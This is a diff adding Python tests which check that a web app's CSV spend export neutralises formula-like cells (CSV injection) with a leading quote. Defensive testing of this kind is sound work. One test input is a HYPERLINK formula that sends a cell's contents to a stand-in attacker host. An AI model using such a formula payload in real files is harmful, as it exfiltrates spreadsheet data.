@@ -732,3 +732,28 @@ def test_demo_spend_is_simulated_everywhere_and_kept_apart_from_real(
     settings.DEMO_MODE = False
     assert spend.used(user=cast.bob) == real.cost
     assert spend.summary_for(cast.bob).used == real.cost
+
+
+def test_csv_cells_that_look_like_formulas_arrive_as_text(client, cast, standin):
+    """OWASP CSV injection: a name starting with = + - @ tab or CR gets a leading quote."""
+    names = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+2", "-2+3", "@SUM(A1)", "\tTab", "\rCR"]
+    for name in names:
+        project = ProjectFactory(name=name, created_by=cast.alice)
+        run(create_job(project=project, author=cast.alice, quality="low"))
+    ProjectFactory(name="Plain name", created_by=cast.alice)
+    client.force_login(cast.sam)
+    rows = list(csv.reader(io.StringIO(client.get(reverse("spend_csv")).content.decode(), newline="")))
+    projects = {row[1] for row in rows if row[0] == "project"}
+    assert projects == {"'" + name for name in names}
+    # Numbers stay numbers.
+    total = next(row for row in rows if row[0] == "total")
+    assert Decimal(total[2]) > 0
+
+
+def test_csv_cell_leaves_safe_values_alone():
+    from workspace.views.spend import csv_cell
+
+    assert csv_cell("Spring campaign") == "Spring campaign"
+    assert csv_cell(Decimal("-1.5")) == Decimal("-1.5")
+    assert csv_cell("") == ""
+    assert csv_cell("=1") == "'=1"
